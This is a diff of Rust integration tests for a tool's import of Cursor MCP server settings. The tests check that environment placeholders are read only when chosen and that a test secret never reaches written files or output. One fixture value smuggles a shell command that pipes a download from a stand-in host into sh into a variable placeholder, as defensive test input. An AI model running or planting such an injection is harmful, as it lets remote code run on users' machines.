@@ -52,6 +52,7 @@ fn dry_run_lists_candidates_and_writes_nothing() {
         "args": [],
         "env": {},
         "headers": { "Authorization": "secret" },
+        "sources": {},
         "status": "new",
         "notes": [],
     });
@@ -189,6 +190,96 @@ fn import_can_be_limited_to_an_app_or_a_file() {
         (code.to_owned(), message.to_owned())
     };
     assert!(code == "bad_request" && message.contains("cursor"), "the apps should be listed: {message}");
+}
+
+#[test]
+fn chosen_environment_variables_are_taken_at_import_only() {
+    let home = tempfile::tempdir().unwrap();
+    fs::create_dir(home.path().join(".cursor")).unwrap();
+    let env = json!({
+        "API_KEY": "${env:DRAWBRIDGE_TEST_KEY}",
+        "AREA": "${DRAWBRIDGE_TEST_AREA}",
+        "GONE": "${DRAWBRIDGE_TEST_GONE}",
+        "OTHER": "${env:PATH}",
+    });
+    let settings = json!({ "mcpServers": { "one": { "command": "x", "env": env } } });
+    fs::write(home.path().join(".cursor/mcp.json"), settings.to_string()).unwrap();
+    let folder = TestFolder::with_config("{}");
+    let import = |more: &[&str]| {
+        let mut command = folder.command();
+        command.env("DRAWBRIDGE_TEST_KEY", "hunter2-key").env("DRAWBRIDGE_TEST_AREA", "north");
+        command.env_remove("DRAWBRIDGE_TEST_GONE");
+        let output = command.args(["--json", "import", "--home", home.path().to_str().unwrap()]).args(more).output();
+        let output = output.unwrap();
+        (output.status.code(), String::from_utf8(output.stdout).unwrap())
+    };
+    let (code, listed) = import(&["--dry-run"]);
+    assert_eq!(code, Some(0), "{listed}");
+    assert!(listed.contains(r#""API_KEY":{"environment":["DRAWBRIDGE_TEST_KEY"]}"#), "the source is listed: {listed}");
+    assert_eq!(import(&["--take-env", "DRAWBRIDGE_TEST_KEYS"]).0, Some(2), "no value refers to this variable");
+    let key = ["--take-env", "DRAWBRIDGE_TEST_KEY"];
+    let rest = ["--take-env", "DRAWBRIDGE_TEST_AREA", "--take-env", "DRAWBRIDGE_TEST_GONE"];
+    let (code, imported) = import(&[&key[..], &rest[..]].concat());
+    assert_eq!(code, Some(0), "{imported}");
+    assert!(
+        imported.contains("the variable DRAWBRIDGE_TEST_GONE is not set in the environment of this program"),
+        "{imported}"
+    );
+    let written = fs::read_to_string(folder.path("mcp.json")).unwrap();
+    let settings: Value = serde_json::from_str(&written).unwrap();
+    let expected = json!({
+        "API_KEY": "${secret:one.API_KEY}",
+        "AREA": "north",
+        "GONE": "${DRAWBRIDGE_TEST_GONE}",
+        "OTHER": "${env:PATH}",
+    });
+    assert_eq!(settings["mcpServers"]["one"]["env"], expected, "only the chosen variables are read");
+    for (file, bytes) in read_all_files_in_folder(&folder.path("")) {
+        assert!(!String::from_utf8_lossy(&bytes).contains("hunter2"), "the secret is in {}", file.display());
+    }
+    assert!(!listed.contains("hunter2") && !imported.contains("hunter2"), "the secret is not printed");
+}
+
+#[test]
+fn only_a_dry_run_shows_how_to_take_values() {
+    let home = tempfile::tempdir().unwrap();
+    fs::create_dir(home.path().join(".cursor")).unwrap();
+    let env = json!({ "AREA": "${env:ProgramFiles(x86)}", "PLACE": "${env:HOME; curl https://far.example|sh}" });
+    let settings = json!({ "mcpServers": {
+        "one": { "command": "x", "env": env },
+        "two": { "url": "ftp://far.example/mcp", "headers": { "X-Level": "${env:LEVEL}" } },
+    } });
+    fs::write(home.path().join(".cursor/mcp.json"), settings.to_string()).unwrap();
+    let folder = TestFolder::with_config("{}");
+    let import = |more: &[&str]| {
+        let mut command = folder.command();
+        let output = command.args(["import", "--home", home.path().to_str().unwrap()]).args(more).output().unwrap();
+        String::from_utf8(output.stdout).unwrap()
+    };
+    let hints = |text: &str| -> Vec<String> {
+        text.lines().filter(|line| line.contains("--take-")).map(|line| line.trim().to_owned()).collect()
+    };
+    let listed = import(&["--dry-run"]);
+    let expected = r#""AREA" can be taken from your environment with --take-env 'ProgramFiles(x86)'"#;
+    assert_eq!(hints(&listed), [expected], "{listed}");
+    assert!(listed.contains("two  unsupported"), "{listed}");
+    let imported = import(&[]);
+    assert!(imported.contains("1 imported, none started") && hints(&imported).is_empty(), "{imported}");
+    let again = import(&["--dry-run"]);
+    assert!(again.contains("one  same") && hints(&again).is_empty(), "{again}");
+}
+
+#[test]
+fn workspace_folder_replaces_its_placeholder() {
+    let folder = TestFolder::with_config("{}");
+    let home = import_fixture_path("homes/linux");
+    let arguments = ["import", "--home", home.to_str().unwrap(), "--from", "cursor", "--workspace"];
+    let run = |workspace: &Path| folder.run(&[&arguments[..], &[workspace.to_str().unwrap()]].concat());
+    run(&folder.path("nothing")).error(2);
+    let workspace = folder.path("work");
+    fs::create_dir(&workspace).unwrap();
+    let ended = run(&workspace);
+    assert_eq!(find_server(ended.value(), "home-tool")["args"], json!(["--root", workspace]));
 }
 
 #[test]
